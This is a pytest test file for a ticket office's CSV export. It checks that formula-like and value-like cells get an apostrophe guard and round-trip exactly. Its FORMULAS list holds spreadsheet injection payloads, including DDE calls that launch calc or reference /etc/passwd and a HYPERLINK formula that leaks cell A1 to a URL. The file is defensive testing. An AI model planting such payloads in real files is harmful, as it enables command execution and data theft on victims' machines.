"""A CSV file that leaves the desk: everything comes back as it was, and no spreadsheet finds a formula in it."""

import csv
import io
from datetime import datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ticketoffice.desk.csv_text import csv_bytes, safe, unguarded

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "＠SUM(1)",
    '=HYPERLINK("http://example.org?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=WEBSERVICE("http://example.org")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "+41 79 123 45 67",
]
"""Each is run, or changed into a number, by one spreadsheet or another when a cell begins with it."""


VALUES = [
    "0791234567",
    "0041791234568",
    "079 123 45 67",
    "00123",
    "007",
    "12345678",
    " 00123 ",
    "12345678901234567890",
    "30.00",
    "1'234.50",
    "1,234",
    "(30)",
    "50%",
    "CHF 10",
    "10 €",
    "$5",
    "1e5",
    "2E10",
    "1-2",
    "3/4",
    "1.2.2026",
    "2026-11-29",
    "2026-11-29T20:00:00Z",
    "May 5",
    "5. März",
    "DEC1",
    "Fri 6 Nov 2026",
    "10:30",
    "20 h",
    "1 A",
    "12 pm",
    "½",
    "０７９",
    "TRUE",
    "FAUX",
    "#N/A",
    "'0791234567",
]
"""Each is changed by one spreadsheet or another when it opens the file: into a number, a date, a truth or a fault."""


def read(table: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_begins_with_an_apostrophe(cell: str) -> None:
    (row,) = read(csv_bytes(["=", "=", "="], [["Keller", cell, Decimal("30.00")]]))[1:]
    assert row[1].startswith("'") and row[0::2] == ["Keller", "30.00"]
    assert row[1].replace("'", "") == cell.replace("\x00", "").replace("'", "")


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "Keller",
        "Anne-Marie",
        "F 12",
        "E 12",
        "OPERA-00001",
        "School 1",
        "7F3K9-2",
        "May",
        'say "no"',
        "a,b;c",
        "two\nlines",
        "Zoë 東京",
        "a=b",
        "30,-",
        "'",
    ],
)
def test_all_else_comes_back_as_it_was(cell: str) -> None:
    text = csv_bytes(["Name", "Note"], [[cell, "x"]])
    assert text.startswith("\ufeffName,Note\r\n".encode())
    assert read(text) == [["Name", "Note"], [cell, "x"]]


@pytest.mark.parametrize("separator", [";", ",", "\t", "\n", "; "])
def test_a_machine_with_another_separator_finds_no_formula_either(separator: str) -> None:
    (row,) = read(csv_bytes(["Note"], [[f"a{separator}=1+1"]]))[1:]
    assert "'" in row[0] and row[0].replace("'", "") == f"a{separator}=1+1"


def test_a_title_is_a_cell_too() -> None:
    assert read(csv_bytes(["=1+1"], [])) == [["'=1+1"]]


@pytest.mark.parametrize("cell", VALUES)
def test_a_text_that_looks_like_a_value_begins_with_an_apostrophe(cell: str) -> None:
    assert safe(cell) == f"'{cell}"


def test_amounts_counts_and_times_are_values() -> None:
    row = (Decimal("30.00"), Decimal("-0.05"), 4, datetime(2026, 11, 29, 20, 0), None)
    assert read(csv_bytes(list("abcde"), [row]))[1] == ["30.00", "-0.05", "4", "2026-11-29 20:00", ""]


@pytest.mark.parametrize(
    "cell", [*FORMULAS, *VALUES, "'", "''", "a;=1", "a;'=1", "a\t'' =1", "O'Brien", "'Aida'", "';=1"]
)
def test_the_text_is_read_back(cell: str) -> None:
    assert unguarded(safe(cell)) == cell.replace("\x00", "")


@given(st.text(alphabet="'=+-@;,|\t\r\n 09aeM.%＝", max_size=12))
def test_any_text_is_read_back(cell: str) -> None:
    assert unguarded(safe(cell)) == cell
